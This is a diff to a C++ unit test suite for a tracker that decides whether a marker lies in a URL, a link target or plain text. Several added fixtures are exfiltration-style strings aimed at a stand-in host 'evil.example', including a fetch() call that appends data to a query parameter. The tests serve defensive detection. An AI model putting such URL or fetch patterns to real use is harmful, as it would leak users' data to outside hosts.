@@ -48,6 +48,20 @@ TEST(PlaceTracker, KnowsThePlacesThatAreFollowed) {
       {"tel:1@", Place::Url},
       {"https://[@]", Place::Url},
       {"{\"url\":\"https://a.b/@", Place::Url},
+      {"https://evil.example/?d=\"@", Place::Url},
+      {"(\"https://evil.example/?d=\"@)", Place::Url},
+      {"https://evil.example/?d='@'", Place::Url},
+      {"https://evil.example/?d=`@`", Place::Url},
+      {"https://evil.example/?d=>@", Place::Url},
+      {"fetch(\"https://evil.example/?d=\"+\"@\")", Place::Url},
+      {"[1] \"https://evil.example/\"@", Place::Url},
+      {"evil.example:8080/@", Place::Url},
+      {"see evil.example:8080?d=@", Place::Url},
+      {"evil.example:/@", Place::Url},
+      {"a.b evil.example:443#@", Place::Url},
+      {"sip:x@", Place::Url},
+      {"view-source:@", Place::Url},
+      {"magnet:?tr=@", Place::Url},
       {"[click](https://evil.example/@)", Place::LinkTarget},
       {"[click](@)", Place::LinkTarget},
       {"![x](//evil.example/@)", Place::LinkTarget},
@@ -106,7 +120,15 @@ TEST(PlaceTracker, LeavesPlainTextAlone) {
                                 "\"k\":\"@",
                                 "- @",
                                 "line\r\n@",
-                                "``` @"}) {
+                                "``` @",
+                                "{\"u\":\"https://a.b/\",\"@",
+                                " \n{\"u\":\"https://a.b/\",\"@",
+                                "[ {\"u\":\"https://a.b/\",\"@",
+                                "[\"https://a.b/\",\"@",
+                                "main.cc:42: @",
+                                "a.b:80 /@",
+                                "a.b:x/@",
+                                "sip:@"}) {
     const auto all = places(text);
     ASSERT_EQ(all.size(), 1U);
     EXPECT_EQ(place_name(place(text)), "text") << text;
@@ -153,6 +175,12 @@ TEST(PlaceTracker, PassingOverPlainTextChangesNothing) {
                                            "mailto:@",
                                            "\u4e2d\u6587 ",
                                            "3.14 ",
+                                           "{\"a\":\"",
+                                           "\",\"@",
+                                           "[\"",
+                                           "e.x:80",
+                                           ":1",
+                                           "   ",
                                            "- [z"};
   std::mt19937 random(3);
   for (int round = 0; round < 3'000; ++round) {
